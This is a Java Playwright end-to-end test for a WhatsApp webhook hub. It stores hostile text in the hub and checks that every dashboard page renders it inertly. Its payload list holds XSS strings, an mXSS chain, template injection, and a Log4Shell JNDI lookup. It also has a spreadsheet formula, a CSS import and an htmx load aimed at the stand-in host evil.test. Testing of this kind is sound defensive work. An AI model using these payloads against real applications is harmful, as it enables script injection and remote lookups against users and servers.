package dev.switchhook.e2e;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.LoadState;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/// What strangers and tenants can store, opened in a browser on every page of [PagesTest#PAGES]: it
/// is shown as text, runs nothing, asks nobody.
class HostileTest {
  /// The essence of the cases beside the repository, for when they are not there.
  private static final List<String> OWN =
      List.of(
          "<script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "' autofocus onfocus=alert(1) x='",
          "javascript:alert(1)",
          "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
          "<style>@import 'http://evil.test'</style>",
          "<svg><script>alert(1)</script></svg>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
          "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
          "<div hx-get=\"http://evil.test\" hx-trigger=load>x</div>",
          "=HYPERLINK(\"http://evil.test\",\"x\")",
          "\u202Etxt.exe\u202C \u2066right to left\u2069 \u200F",
          "nothing\u0000after",
          "\r\n2026-11-20 ERROR fake line",
          "${jndi:ldap://evil.test/a}");

  /// A body of this many characters is stored too.
  private static final int LONG = 1_000_000;

  private static final String SHOWN = "<script>alert(1)</script>";

  private static OwnedHub owned;
  private static Customer customer;
  private static Meta.Account number;

  /// What makes trouble if it is anything but text: code, links that run, frames, foreign sources.
  private static final String LIVE =
      """
      () => [...document.querySelectorAll(
          'a[href^="javascript:" i], a[href^="data:" i], iframe, object, embed, base, math, '
          + '[onerror], [onfocus], [onload], [style], [hx-get^="http"], style, script:not([src])')]
        .map(found => found.outerHTML.slice(0, 200))
      """;

  @BeforeAll
  static void store() {
    owned = OwnedHub.start(SHOWN);
    customer = Customer.that(arrival -> new Customer.Reply(500, "text/html", SHOWN.repeat(1_000)));
    number = Meta.Account.invented();
    String channel = owned.tenant().channel(number);
    Http.Answer named =
        owned.tenant().call("PATCH", "/v1/channels/" + channel, Tenant.json(Map.of("name", SHOWN)));
    assertThat(named.status()).as(named.text()).isEqualTo(200);
    for (String text : texts()) {
      endpoint(text);
      key(text);
    }
    receive();
  }

  @AfterAll
  static void end() {
    customer.close();
    owned.close();
  }

  private static Set<String> texts() {
    Set<String> texts = new TreeSet<>(OWN);
    Repository.shared("cases/dashboard-session.json")
        .map(file -> Http.JSON.readTree(Repository.read(file)))
        .ifPresent(file -> {
          for (JsonNode one : file.path("cases")) {
            if (one.path("kind").asString().equals("stored-xss-through-payloads")) {
              texts.add(one.path("input").asString());
            }
          }
        });
    return texts;
  }

  /// Some texts are refused as names or header values; what is taken must be shown as text.
  private static void endpoint(String text) {
    for (String url : List.of(customer.url() + "?q=" + "x", "javascript:alert(1)", text)) {
      Http.Answer made =
          owned
              .tenant()
              .call(
                  "POST",
                  "/v1/endpoints",
                  Tenant.json(
                      Map.of(
                          "url", url,
                          "description", text,
                          "headers", Map.of("X-Text", text.strip()),
                          "event_types", List.of("message.incoming"),
                          "retry_schedule", List.of())));
      assertThat(made.status()).as(made.text()).isIn(201, 422);
      assertThat(made.status() == 201 && !url.startsWith("http"))
          .as("an endpoint at " + url)
          .isFalse();
    }
  }

  private static void key(String text) {
    Http.Answer made =
        Tenant.call(
            owned.hub().url(),
            Hub.ADMIN_KEY,
            "POST",
            "/v1/applications/" + owned.tenant().applicationId() + "/keys",
            Tenant.json(Map.of("name", text)));
    assertThat(made.status()).as(made.text()).isIn(201, 422);
  }

  /// One person for each text, who is called so, writes it, and sends links and a place with it;
  /// and somebody whose message is as long as a message may be.
  private static void receive() {
    int person = 0;
    for (String text : texts()) {
      String from = "55119000" + (10_000 + person++);
      post(from, text, Map.of("type", "text", "text", Map.of("body", text)));
      post(
          from,
          text,
          Map.of(
              "type",
              "location",
              "location",
              Map.of(
                  "latitude", 1.5, "longitude", 2.5, "name", text, "address", text, "url", text)));
      post(
          from,
          text,
          Map.of(
              "type",
              "contacts",
              "contacts",
              List.of(
                  Map.of(
                      "name",
                      Map.of("formatted_name", text, "first_name", text),
                      "urls",
                      List.of(Map.of("url", "javascript:alert(1)", "type", text))))));
      post(from, text, Map.of("type", text, text, Map.of(text, text)));
    }
    String long_ = SHOWN + "x".repeat(LONG);
    post("5511900099999", "Long", Map.of("type", "text", "text", Map.of("body", long_)));
    Await.value(
        "deliveries to fail",
        () -> {
          JsonNode failed =
              owned.tenant().call("GET", "/v1/deliveries?status=failed&limit=50", "").json();
          return failed.path("data").size() >= 10 ? Optional.of(failed) : Optional.empty();
        });
  }

  private static void post(String from, String name, Map<String, Object> message) {
    Map<String, Object> whole = new java.util.LinkedHashMap<>(message);
    whole.put("from", from);
    whole.put("id", Meta.newId());
    whole.put("timestamp", "1764000001");
    byte[] body =
        Tenant.json(
                Map.of(
                    "object",
                    "whatsapp_business_account",
                    "entry",
                    List.of(
                        Map.of(
                            "id",
                            number.businessAccount(),
                            "changes",
                            List.of(
                                Map.of("field", "messages", "value", value(from, name, whole)))))))
            .getBytes(UTF_8);
    assertThat(Meta.post(owned.hub().url(), number, body)).isEqualTo(200);
  }

  private static Map<String, Object> value(String from, String name, Map<String, Object> message) {
    return Map.of(
        "messaging_product",
        "whatsapp",
        "metadata",
        Map.of("display_phone_number", "+55 11 90000-0001", "phone_number_id", number.id()),
        "contacts",
        List.of(Map.of("profile", Map.of("name", name), "wa_id", from)),
        "messages",
        List.of(message));
  }

  @Test
  void everyPageShowsItAsText() {
    List<String> wrong = new ArrayList<>();
    StringBuilder shown = new StringBuilder();
    try (BrowserContext context = owned.signedIn(Look.ALL.getFirst())) {
      for (PagesTest.Seen seen : PagesTest.PAGES) {
        if (seen.name().equals("receiver-request")) {
          continue; // only a demo has a receiver with requests
        }
        try (Page page = context.newPage()) {
          Watch watch = new Watch(page, owned.address(), seen.name() + ": ", Set.of("404"));
          page.navigate(seen.address(page, owned.address()));
          page.waitForLoadState(LoadState.LOAD);
          unfold(page, seen);
          shown.append(page.locator("body").innerText());
          for (Object found : (List<?>) page.evaluate(LIVE)) {
            watch.wrong().add(seen.name() + ": live: " + found);
          }
          wrong.addAll(watch.wrong());
        }
      }
    }
    assertThat(wrong).isEmpty();
    assertThat(shown).contains(SHOWN, "</script><script>alert(1)</script>", "javascript:alert(1)");
  }

  /// Opens everything that reveals, then what the list of pages says, which may cover the page, and
  /// what reveals in that.
  private static void unfold(Page page, PagesTest.Seen seen) {
    revealAll(page);
    Locator opened = page.locator(seen.opened().isEmpty() ? "nothing-here" : seen.opened());
    if (opened.count() > 0) {
      opened.first().click();
      revealAll(page);
    }
  }

  private static void revealAll(Page page) {
    page.locator("main details:not([open]) > summary").all().stream()
        .filter(Locator::isVisible)
        .forEach(Locator::click);
  }
}
